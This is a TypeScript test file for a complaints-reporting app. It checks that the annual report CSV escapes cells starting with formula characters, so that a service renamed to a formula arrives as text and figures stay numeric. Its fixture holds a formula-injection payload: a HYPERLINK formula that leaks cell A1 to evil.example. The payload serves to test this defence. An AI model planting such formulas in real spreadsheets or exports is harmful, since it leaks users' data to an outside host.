/**
 * The report CSV is opened in spreadsheets: text that looks like a formula (a service named
 * "=HYPERLINK(…)") must arrive as text, with numbers still numbers.
 */
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { reportDocument, type ReportDocument } from '../../core/reports/document';
import { buildAnnualReport } from '../../core/reports/models';
import { parseYear } from '../../core/reports/periods';
import { renderCsv, spreadsheetText } from '../../reports/csv';
import { monthlyOf, org, seededCases, TODAY } from './report-fixtures';

const EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
type Row = Record<string, string>;
const rowsOf = (csv: string) => parse(csv, { columns: true, bom: true }) as Row[];

describe('governance: report CSV against spreadsheet formula injection', () => {
  it('prefixes an apostrophe to text starting with =, +, -, @, tab or carriage return, and leaves other text alone', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) assert.equal(spreadsheetText(`${start}SUM(A1:A9)`), `'${start}SUM(A1:A9)`);
    for (const safe of ['Housing Repairs', 'Stage 1 (frontline response)', '', "'already quoted", 'a=b']) assert.equal(spreadsheetText(safe), safe);
  });

  it('a service named "=HYPERLINK(...)" arrives as text in the annual report CSV, its figures unchanged', () => {
    const renamed = seededCases(300).map((c) => (c.service === 'Housing' ? { ...c, service: EVIL } : c));
    assert.ok(renamed.some((c) => c.service === EVIL), 'the fixture has cases in the renamed service');
    const evilOrg = { ...org, services: org.services.map((s) => (s === 'Housing' ? EVIL : s)) };
    const report = buildAnnualReport({ org: evilOrg, monthly: monthlyOf(renamed), improvements: [], today: TODAY, period: parseYear('2025/26', 4) }, new Map(renamed.map((c) => [c.reference, c])));
    if (report.kind !== 'annual') throw new Error('annual expected');
    const rows = rowsOf(renderCsv(reportDocument(report)));
    const cells = rows.flatMap((r) => Object.entries(r).filter(([column]) => column !== 'value').map(([, v]) => v));
    assert.ok(cells.some((v) => v === `'${EVIL}`), 'the service name is in the CSV, quoted as text');
    assert.deepEqual(cells.filter((v) => /^[=+\-@\t\r]/.test(v)), [], 'no text cell starts like a formula');
    const received = rows.find((r) => r.section === `Indicators by service › Service: ${EVIL}` && r.row === 'Total complaints received' && r.measure === 'Number');
    assert.equal(received?.value, String(report.indicators.byService[EVIL].kpi4Received.total), 'the service’s figure is a plain number');
  });

  it('keeps numbers, negative ones included, as numbers in the value column', () => {
    const doc: ReportDocument = {
      ...reportDocument(buildAnnualReport({ org, monthly: monthlyOf([]), improvements: [], today: TODAY, period: parseYear('2025/26', 4) }, new Map())),
      orgName: '@Glenmore',
      sections: [
        {
          id: 'change',
          heading: 'Change on last year',
          blocks: [{ kind: 'table', id: 't', caption: '+ and - against last year', rowHeader: 'Service', columns: [{ label: 'Change', unit: 'count' }], rows: [{ header: '-Roads', cells: [-3] }, { header: 'Waste', cells: [2.5] }] }],
        },
      ],
    };
    const rows = rowsOf(renderCsv(doc));
    assert.deepEqual(rows.map((r) => [r.organisation, r.table, r.row, r.value]), [
      ["'@Glenmore", "'+ and - against last year", "'-Roads", '-3'],
      ["'@Glenmore", "'+ and - against last year", 'Waste', '2.5'],
    ]);
  });
});
